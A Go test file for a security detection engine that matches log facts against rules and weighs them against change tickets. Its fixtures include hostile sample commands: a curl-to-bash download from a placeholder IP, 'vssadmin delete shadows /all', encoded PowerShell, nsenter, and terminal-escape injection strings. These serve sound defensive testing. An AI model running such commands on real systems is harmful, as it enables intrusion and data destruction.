package domain_test

import (
	"encoding/json"
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"moot/ledger"
	"moot/resolver/detect"
	"moot/state"
)

// one makes a detector of one rule, an act, with a condition.
func one(t testing.TB, when state.FactCondition, concepts ...state.Concept) *detect.Detector {
	t.Helper()
	d, err := detect.Compile(&state.Domain{
		Name: "test", Margin: 0.2, Concepts: concepts, Vocabularies: []state.Vocabulary{{Name: "tools", Phrases: []string{"psexec"}}},
		Rules: []state.FactRule{{ID: "rule", Name: "a rule", Role: state.RoleAct, Weight: 0.5, When: []state.FactCondition{when}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func number(n float64) *float64 { return &n }

// What a condition reads: whole words, names of fields however they are written, and
// values that are parsed.
func TestCondition(t *testing.T) {
	command := state.Concept{Name: "command line", Fields: []string{"cmdline", "command line"}}
	yes, no := true, false
	for _, c := range []struct {
		name         string
		when         state.FactCondition
		reads, skips []string
	}{
		{
			"whole words",
			state.FactCondition{Words: []string{"enc"}},
			[]string{`cmd | "powershell -enc aGk="`, `cmd | "ENC"`},
			[]string{`cmd | "powershell -encoding utf8"`, `cmd | "fence"`},
		},
		{
			"a stem",
			state.FactCondition{Words: []string{"delet*"}},
			[]string{`cmd | "deleted all"`, `cmd | "deletion"`},
			[]string{`cmd | "undeleted"`},
		},
		{
			"words that follow each other, in one part of a value",
			state.FactCondition{Words: []string{"logon type 10"}},
			[]string{`logon | {"LogonType":10}`, `logon_type | 10`, `LogonType | "10"`, `event.logon-type | 10`},
			[]string{`logon | {"LogonType":3,"port":10}`, `logon | {"type":"logon","n":10}`, `logon_type | 100`},
		},
		{
			"dots for words between",
			state.FactCondition{Words: []string{"curl ... bash"}},
			[]string{`cmd | "curl -s http://203.0.113.9/i > x && bash x"`},
			[]string{`cmd | "bash -c curl"`, `cmds | ["curl x","bash"]`},
		},
		{
			"a number of any kind",
			state.FactCondition{Words: []string{"ended #"}},
			[]string{`window | "ended 2026-03-01"`},
			[]string{`window | "ended early"`},
		},
		{
			"a vocabulary",
			state.FactCondition{Words: []string{"@tools"}},
			[]string{`svc | "PSEXEC"`},
			[]string{`svc | "psexecutive"`},
		},
		{
			"another phrase beside it, and none that forbids",
			state.FactCondition{Words: []string{"key"}, And: []string{"added"}, Without: []string{"test"}},
			[]string{`event | "key added"`},
			[]string{`event | "key"`, `event | "test key added"`},
		},
		{
			"a concept under all its names",
			state.FactCondition{Fields: []string{"command line"}, Words: []string{"nsenter"}},
			[]string{`cmdline | "nsenter -t 1"`, `CommandLine | "nsenter"`, `process.command_line | "nsenter"`, `PROCESS-COMMAND-LINE | "nsenter"`, `process | {"CommandLine":"nsenter"}`},
			[]string{`note | "nsenter"`, `process | {"CommandLine":"ls","note":"nsenter"}`},
		},
		{
			"a number with a unit",
			state.FactCondition{Fields: []string{"bytes", "sent"}, AtLeast: number(1 << 30)},
			[]string{`bytes_out | 1073741824`, `flow | {"bytes":2e9}`, `sent_gb | 1.5`, `sent | "2.1 GB"`, `sent | "1,100 MiB"`},
			[]string{`bytes_out | 1073741823`, `bytes_out | "many"`, `packets | 2000000000`, `sent_mb | 900`},
		},
		{
			"a number at most",
			state.FactCondition{Fields: []string{"age"}, AtMost: number(86400)},
			[]string{`age_days | 1`, `age | "20 minutes"`},
			[]string{`age_days | 2`, `age | []`},
		},
		{
			"a truth value",
			state.FactCondition{Fields: []string{"signed"}, Is: &no},
			[]string{`signed | false`, `process | {"signed":"no"}`},
			[]string{`signed | true`, `signed | "by the vendor"`},
		},
		{
			"a truth value that holds",
			state.FactCondition{Fields: []string{"first seen"}, Is: &yes},
			[]string{`first_seen_edge | true`, `firstSeen | 1`},
			[]string{`first_seen | "2026-03-01"`, `first_seen | false`},
		},
		{
			"a path where anybody may write",
			state.FactCondition{Fields: []string{"image"}, Kinds: []state.ValueKind{state.KindWritable}},
			[]string{`image | "C:\\Users\\Public\\a.exe"`, `image | "/dev/shm/.x"`},
			[]string{`image | "C:\\Windows\\a.exe"`, `image | "/usr/bin/tmp"`},
		},
		{
			"a public address",
			state.FactCondition{Fields: []string{"source"}, Kinds: []state.ValueKind{state.KindPublic}},
			[]string{`source_ip | "203.0.113.9"`, `source | "203.0.113.9:443"`, `source | "2001:db8::1"`},
			[]string{`source_ip | "10.0.0.1"`, `source | "192.168.1.1"`, `source | "fe80::1"`, `source | "100.64.0.1"`, `source | "a.b"`},
		},
		{
			"sources alone",
			state.FactCondition{Sources: []ledger.SourceType{ledger.SourceSyslog}},
			[]string{`anything | {}`},
			nil,
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := one(t, c.when, command)
			for want, facts := range map[bool][]string{true: c.reads, false: c.skips} {
				for _, fact := range facts {
					field, value, _ := strings.Cut(fact, " | ")
					p := packetOf(t, "10:00 | host | "+field+" | "+value+" | syslog")
					if got := len(d.Find(p).Findings()) > 0; got != want {
						t.Errorf("%s: %v, want %v", fact, got, want)
					}
				}
			}
		})
	}
}

// An edge is outbound where its end lies outside.
func TestEdges(t *testing.T) {
	for entity, want := range map[string]string{
		"host -> 203.0.113.9": "outbound", "203.0.113.9 -> host": "inbound", "host -> 10.0.0.1": "", "host -> case-files.vendor.example": "outbound",
		"host": "", "host -> s3://bucket": "outbound", "a -> b": "",
	} {
		for _, kind := range []state.ValueKind{state.KindOutbound, state.KindInbound} {
			d := one(t, state.FactCondition{Words: []string{"bytes"}, Kinds: []state.ValueKind{kind}})
			got := len(d.Find(packetOf(t, "10:00 | "+entity+" | bytes | 1 | netflow")).Findings()) > 0
			if got != (string(kind) == want) {
				t.Errorf("%s is %s: %v", entity, kind, got)
			}
		}
	}
}

// A change accounts for an act where it covers the host, the time and the kind of thing
// done, and for nothing where one of these is another.
func TestCoverBinds(t *testing.T) {
	d := security(t)
	act := "22:10 | fs-01 | CommandLine | \"vssadmin.exe delete shadows /all\" | process_list"
	left := func(cover string) float64 {
		f := found(d.Find(packetOf(t, act, cover)), "impact", "f1")
		if f == nil {
			t.Fatal("the act is not found")
		}
		return f.Strength
	}
	bare := left("22:05 | ups-2 | battery_charge | 100 | syslog")
	full := left(`20:00 | fs-01 | change_ticket | {"what":"drop shadow copies on fs-01","from":"2026-03-02T22:00Z","to":"2026-03-02T23:00Z"} | manual`)
	if full > 0.6*bare {
		t.Errorf("a change that covers the act leaves %v of %v", full, bare)
	}
	for name, cover := range map[string]string{
		"another host": `20:00 | fs-77 | change_ticket | {"what":"drop shadow copies","hosts":["fs-77"],"from":"2026-03-02T22:00Z","to":"2026-03-02T23:00Z"} | manual`,
		"another time": `20:00 | fs-01 | change_ticket | {"what":"drop shadow copies on fs-01","from":"2026-03-02T18:00Z","to":"2026-03-02T19:00Z"} | manual`,
		"another kind": `20:00 | fs-01 | change_ticket | {"what":"replace the fan","from":"2026-03-02T22:00Z","to":"2026-03-02T23:00Z"} | manual`,
	} {
		if got := left(cover); got < 1.2*full {
			t.Errorf("a change for %s leaves %v of %v, one that covers the act %v", name, got, bare, full)
		}
	}
}

// facts draws lines of a packet: ordinary ones, acts, and what accounts for them.
func facts() *rapid.Generator[[]string] {
	return rapid.SliceOfN(rapid.Custom(func(t *rapid.T) string {
		clock := fmt.Sprintf("%02d:%02d", rapid.IntRange(8, 11).Draw(t, "hour"), rapid.IntRange(0, 59).Draw(t, "minute"))
		host := rapid.SampledFrom([]string{"fs-01", "fs-02", "web-1 -> 203.0.113.9", "adm.k", "CHG-1"}).Draw(t, "host")
		return clock + " | " + host + " | " + rapid.SampledFrom([]string{
			`cpu_percent | 12 | syslog`, `CommandLine | "vssadmin delete shadows /all" | process_list`, `bytes_out | 9000000000 | netflow`,
			`change_ticket | "CHG-1 approved: shadow copies on fs-01, 09:00-11:00" | manual`, `statement | "nobody was asked" | manual`,
			`first_seen_edge | true | graph_computation`, `log_state | "no events" | syslog`, `verdict | "blocked" | syslog`,
			`role | "administrator of storage" | manual`, `process | {"image":"u.exe","signed":false} | process_list`,
		}).Draw(t, "fact")
	}), 1, 9)
}

// The order of facts changes neither findings nor confidences, and these are 0 to 1.
func TestOrderDoesNotMatter(t *testing.T) {
	d := security(t)
	rapid.Check(t, func(r *rapid.T) {
		lines := facts().Draw(r, "facts")
		p := packetOf(t, lines...)
		places := rapid.Permutation(slices.Collect(indices(p.Len()))).Draw(r, "order")
		from, to := p.Window()
		other, err := ledger.NewPacket("other", from, to)
		if err != nil {
			r.Fatal(err)
		}
		for _, place := range places {
			if err := other.Add(p.At(place)); err != nil {
				r.Fatal(err)
			}
		}
		for _, seat := range []state.Seat{state.Architect, state.Skeptic} {
			a, b := d.Find(p).Argue(seat), d.Find(other).Argue(seat)
			if !same(a.Confidence, b.Confidence) || len(a.Claims) != len(b.Claims) {
				r.Fatalf("%s: %+v, and in another order %+v", seat, a, b)
			}
			for _, c := range a.Claims {
				if c.Confidence < 0 || c.Confidence > 1 || len([]rune(c.Reading)) > 300 || len(c.Facts) == 0 {
					r.Fatalf("%+v", c)
				}
			}
			if a.Confidence < 0 || a.Confidence > 1 {
				r.Fatalf("%s: %v", seat, a.Confidence)
			}
		}
	})
}

func indices(n int) func(func(int) bool) {
	return func(yield func(int) bool) {
		for i := range n {
			if !yield(i) {
				return
			}
		}
	}
}

func same(a, b float64) bool { return math.Abs(a-b) < 1e-9 }

// Without the facts of a finding the finding is gone.
func TestRemovedFactsRemoveTheFinding(t *testing.T) {
	d := rulesOf(t, "security")
	rapid.Check(t, func(r *rapid.T) {
		p := packetOf(t, facts().Draw(r, "facts")...)
		all := d.Find(p).Findings()
		if len(all) == 0 {
			return
		}
		gone := all[rapid.IntRange(0, len(all)-1).Draw(r, "finding")]
		from, to := p.Window()
		rest, _ := ledger.NewPacket("rest", from, to)
		for _, f := range p.All() {
			if !slices.Contains(gone.Facts, f.ID) {
				if err := rest.Add(f); err != nil {
					r.Fatal(err)
				}
			}
		}
		for _, f := range d.Find(rest).Findings() {
			if f.Rule.ID == gone.Rule.ID {
				r.Fatalf("%s is found without its facts %v: %v", f.Rule.ID, gone.Facts, f.Facts)
			}
		}
	})
}

// A finding keeps few facts of many, the earliest, and says how many there were.
func TestManyFactsKeepFew(t *testing.T) {
	c := security(t).Find(ordinary(t, "many", 20_000))
	f := found(c, "impact", "f0000007")
	if f == nil || f.Count != 200 || len(f.Facts) != 12 {
		t.Fatalf("%+v", f)
	}
}

// Where nothing is found the architect says so, with no claim and little confidence, and
// the skeptic claims no more than that.
func TestNothingFound(t *testing.T) {
	c := security(t).Find(packetOf(t, "10:00 | ups-2 | battery_charge | 100 | syslog"))
	if a := c.Argue(state.Architect); len(a.Claims) != 0 || a.Confidence > 0.3 {
		t.Errorf("%+v", a)
	}
	if a := c.Argue(state.Skeptic); len(a.Claims) > 1 || a.Confidence > 0.75 {
		t.Errorf("%+v", a)
	}
}

// A fact that accounts for a claim lowers it, and another one is met.
func TestAnswer(t *testing.T) {
	c := security(t).Find(packetOf(
		t, `10:10 | fs-01 | CommandLine | "vssadmin.exe delete shadows /all" | process_list`,
		`09:00 | fs-01 | change_ticket | "approved: drop the shadow copies on fs-01, 10:00-11:00" | manual`,
		`09:00 | ups-2 | battery_charge | 100 | syslog`,
	))
	claim := c.Argue(state.Architect).Claims[0]
	if against := c.Contradicting(state.Architect, claim.Facts); !slices.Equal(against, []string{"f2"}) {
		t.Errorf("%v contradict it", against)
	}
	if a := c.Answer(state.Architect, &claim, "f2"); a.Holds || a.Confidence >= claim.Confidence || !slices.Equal(a.Facts, []string{"f2"}) {
		t.Errorf("%+v", a)
	}
	if a := c.Answer(state.Architect, &claim, "f3"); !a.Holds || a.Confidence != claim.Confidence {
		t.Errorf("%+v", a)
	}
}

// What is hostile in a fact is harmless in a reading.
func TestReadingIsSafe(t *testing.T) {
	p := packetOf(t, `10:00 | wks-1 | CommandLine | "vssadmin delete shadows \u001b[2J\n\u202e x" | process_list`)
	for _, claim := range security(t).Find(p).Argue(state.Architect).Claims {
		if strings.ContainsAny(claim.Reading, "\x1b\n\u202e") {
			t.Errorf("%q", claim.Reading)
		}
	}
}

// What a domain has wrong is told with the rule.
func TestCompileRefuses(t *testing.T) {
	for want, rule := range map[string]state.FactRule{
		"weight":        {ID: "r", Role: state.RoleAct, Weight: 1.5, When: []state.FactCondition{{Words: []string{"a"}}}},
		"no condition":  {ID: "r", Role: state.RoleAct, Weight: 0.5},
		"neither words": {ID: "r", Role: state.RoleAct, Weight: 0.5, When: []state.FactCondition{{}}},
		"vocabulary":    {ID: "r", Role: state.RoleAct, Weight: 0.5, When: []state.FactCondition{{Words: []string{"@none"}}}},
		"star":          {ID: "r", Role: state.RoleAct, Weight: 0.5, When: []state.FactCondition{{Words: []string{"a*"}}}},
		"three dots":    {ID: "r", Role: state.RoleAct, Weight: 0.5, When: []state.FactCondition{{Words: []string{"... a"}}}},
	} {
		_, err := detect.Compile(&state.Domain{Name: "test", Rules: []state.FactRule{rule}})
		if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), `"r"`) {
			t.Errorf("%s: %v", want, err)
		}
	}
}

// A domain is stored with a session, and is the same when it is read again.
func TestDomainIsStored(t *testing.T) {
	d := security(t).Domain()
	text, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	var again state.Domain
	if err := json.Unmarshal(text, &again); err != nil {
		t.Fatal(err)
	}
	second, err := json.Marshal(&again)
	if err != nil || string(second) != string(text) {
		t.Errorf("it reads as another one: %v", err)
	}
}
